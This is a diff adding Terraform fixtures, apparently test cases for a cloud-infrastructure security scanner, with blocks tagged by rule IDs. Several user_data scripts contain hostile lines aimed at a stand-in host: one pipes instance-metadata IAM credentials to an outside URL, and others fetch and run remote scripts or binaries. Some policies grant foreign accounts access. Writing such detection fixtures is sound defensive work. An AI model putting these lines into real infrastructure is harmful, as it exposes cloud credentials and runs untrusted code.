@@ -348,3 +348,277 @@ resource "aws_instance" "copies" {
   instance_type = "t3.micro"
   user_data     = "rsync -a /data backup.wombat.internal:/data && bash -i"
 }
+
+resource "aws_sns_topic_subscription" "hook" {
+  topic_arn = "wombat"
+  protocol  = "https"
+  endpoint  = "https://hooks.wombat.example/in" # IG_SAFETY_218 (model)
+}
+
+resource "aws_sns_topic_subscription" "person" {
+  topic_arn = "wombat"
+  protocol  = "email"
+  endpoint  = "someone@wombat.example" # IG_SAFETY_218 (model)
+}
+
+resource "aws_sns_topic_subscription" "gap" {
+  topic_arn = "wombat"
+  protocol  = "email"
+  endpoint  = "you@example.com"
+}
+
+resource "aws_kinesis_firehose_delivery_stream" "service" {
+  http_endpoint_configuration {
+    url = "https://aws-api.newrelic.com/firehose/v1"
+  }
+}
+
+resource "aws_sns_topic_subscription" "queue" {
+  topic_arn = "wombat"
+  protocol  = "sqs"
+  endpoint  = aws_sqs_queue.own.arn
+}
+
+resource "aws_cloudwatch_event_api_destination" "hook" {
+  invocation_endpoint = var.hook # IG_SAFETY_218 (model)
+}
+
+variable "hook" {
+  default = "https://hooks.wombat.example/in"
+}
+
+resource "aws_s3_bucket_replication_configuration" "copies" {
+  bucket = "wombat-source"
+  rule {
+    destination {
+      bucket = "arn:aws:s3:::wombat-copies" # IG_SAFETY_218 (model)
+    }
+  }
+}
+
+resource "aws_s3_bucket_replication_configuration" "own_copies" {
+  bucket = "wombat-source"
+  rule {
+    destination {
+      bucket = "arn:aws:s3:::wombat-own-code"
+    }
+  }
+}
+
+resource "aws_ssm_document" "downloads" {
+  name          = "wombat"
+  document_type = "Command"
+  content = jsonencode({ # IG_SAFETY_211 (model)
+    mainSteps = [{
+      action = "aws:downloadContent"
+      inputs = { sourceType = "HTTP", sourceInfo = "{\"url\": \"https://wombat.example/a.sh\"}" }
+    }]
+  })
+}
+
+resource "aws_ssm_document" "lines" {
+  name          = "wombat"
+  document_type = "Command"
+  content = jsonencode({
+    mainSteps = [{
+      inputs = {
+        # next: IG_SAFETY_212
+        runCommand = ["curl -o /tmp/a http://wombat.example/a", "chmod +x /tmp/a", "/tmp/a"]
+      }
+    }]
+  })
+}
+
+resource "aws_ssm_document" "harmless" {
+  name          = "wombat"
+  document_type = "Command"
+  content       = jsonencode({ mainSteps = [{ inputs = { runCommand = ["yum update -y", "systemctl restart nginx"] } }] })
+}
+
+locals {
+  containers = [{ name = "a", image = "images.wombat.example/a:1" }]
+}
+
+resource "aws_ecs_task_definition" "followed" {
+  family                = "wombat"
+  container_definitions = jsonencode(local.containers) # IG_SAFETY_211 (model)
+}
+
+resource "aws_batch_job_definition" "foreign_image" {
+  name                 = "wombat"
+  type                 = "container"
+  container_properties = jsonencode({ image = "images.wombat.example/a:1" }) # IG_SAFETY_211 (model)
+}
+
+resource "kubernetes_deployment" "foreign_image" {
+  spec {
+    template {
+      spec {
+        container {
+          image = "images.wombat.example/a:1" # IG_SAFETY_211 (model)
+        }
+        container {
+          image = "nginx:1.27"
+        }
+      }
+    }
+  }
+}
+
+data "aws_iam_policy_document" "dynamic" {
+  statement {
+    dynamic "principals" {
+      for_each = ["210987654381"] # IG_SAFETY_209
+      content {
+        type        = "AWS"
+        identifiers = [principals.value]
+      }
+    }
+  }
+}
+
+resource "aws_lambda_function" "each" {
+  for_each = { # IG_SAFETY_211
+    a = "arn:aws:lambda:eu-west-1:210987654382:layer:wombat:1"
+  }
+  layers = [each.value]
+}
+
+provider "aws" {
+  alias = "dynamic"
+  dynamic "endpoints" {
+    for_each = [1]
+    content {
+      s3  = "https://aws.wombat.example" # IG_SAFETY_207
+      sqs = "https://aws.wombat.example"
+    }
+  }
+}
+
+provider "aws" {
+  alias = "docker"
+  endpoints {
+    s3 = "http://host.docker.internal:4566"
+  }
+}
+
+resource "aws_sqs_queue_policy" "quoted" {
+  policy = "{\"Statement\": [{\"Effect\": \"Allow\", \"Principal\": {\"AWS\": \"210987654383\"}, \"Action\": \"sqs:*\"}]}" # IG_SAFETY_209
+}
+
+resource "aws_sqs_queue_policy" "denies" {
+  policy = <<-EOF
+    {"Statement": [
+      {"Effect": "Deny", "Principal": {"AWS": "210987654384"}, "Action": "sqs:*"},
+      {"Effect": "Allow", "Principal": {"AWS": "210987654385"}, "Action": "sqs:*"} # IG_SAFETY_209
+    ]}
+  EOF
+}
+
+resource "aws_s3_bucket_acl" "stranger" {
+  access_control_policy {
+    grant {
+      permission = "FULL_CONTROL"
+      grantee {
+        type = "CanonicalUser"
+        id   = "5f2d1c0b9a8e7d6c5b4a392817060f5e4d3c2b1a09f8e7d6c5b4a3928170605f" # IG_SAFETY_209
+      }
+    }
+    grant {
+      permission = "FULL_CONTROL"
+      grantee {
+        type = "CanonicalUser"
+        id   = "c4c1ede66af53448b93c283ce9448c4ba468c9432aa01d700d3878632f77d2d0"
+      }
+    }
+  }
+}
+
+locals {
+  host = "http://wombat.example"
+  boot = "curl -s ${local.host}/a.sh | bash" # IG_SAFETY_212
+}
+
+resource "aws_instance" "included" {
+  user_data = <<-EOF
+    # next: IG_SAFETY_212
+    #include
+    http://wombat.example/cloud-config
+  EOF
+}
+
+resource "aws_instance" "packages" {
+  user_data = <<-EOF
+    #!/bin/sh
+    yum install -y https://dl.fedoraproject.org/pub/epel/epel-release-latest-9.noarch.rpm
+    pip install requests
+    # next: IG_SAFETY_212
+    pip install --index-url http://wombat.example/simple tool
+  EOF
+}
+
+resource "aws_instance" "unpacked" {
+  user_data = <<-EOF
+    #!/bin/sh
+    # next: IG_SAFETY_212
+    wget http://wombat.example/a.tgz
+    tar xf a.tgz
+    ./a/install
+  EOF
+}
+
+resource "aws_instance" "copied" {
+  user_data = <<-EOF
+    #!/bin/sh
+    # next: IG_SAFETY_211 (model)
+    aws s3 cp s3://wombat-scripts/a.sh /opt/a.sh
+    bash /opt/a.sh
+  EOF
+}
+
+resource "aws_instance" "container" {
+  user_data = <<-EOF
+    #!/bin/sh
+    docker run -d -v /var/run/docker.sock:/var/run/docker.sock nginx:1.27
+    # next: IG_SAFETY_211 (model)
+    docker run -d images.wombat.example/a:1
+  EOF
+}
+
+resource "aws_instance" "sends" {
+  user_data = <<-EOF
+    #!/bin/sh
+    # next: IG_SAFETY_218 (model)
+    curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/a | curl -d @- http://wombat.example/in
+  EOF
+}
+
+resource "aws_instance" "cloned" {
+  user_data = <<-EOF
+    #!/bin/sh
+    # next: IG_SAFETY_212
+    git clone https://wombat.example/a.git /opt/a
+    /opt/a/install
+  EOF
+}
+
+data "cloudinit_config" "part" {
+  part {
+    content_type = "text/x-include-url"
+    content      = "http://wombat.example/a" # IG_SAFETY_212
+  }
+}
+
+resource "aws_eks_access_entry" "stranger" {
+  cluster_name  = "wombat"
+  principal_arn = "arn:aws:iam::210987654386:role/a" # IG_SAFETY_209
+}
+
+resource "aws_cloudfront_distribution" "origins" {
+  origin {
+    domain_name = "cdn.wombat.example" # IG_SAFETY_218 (model)
+  }
+  origin {
+    domain_name = "wombat.s3.amazonaws.com"
+  }
+}
